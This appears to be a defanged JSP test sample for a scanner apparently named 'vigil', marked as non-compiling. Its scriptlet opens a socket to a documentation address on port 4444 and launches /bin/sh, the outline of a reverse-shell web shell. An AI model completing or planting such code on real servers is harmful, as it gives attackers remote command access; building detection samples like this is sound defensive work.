<%-- DEFANGED vigil test sample (see README): the scriptlet below does not compile. --%>
<% DEFANGED_SAMPLE_DOES_NOT_COMPILE %>
<%
    java.net.Socket s = new java.net.Socket("192.0.2.1", 4444);
    Process p = new ProcessBuilder("/bin/sh").redirectErrorStream(true).start();
%>
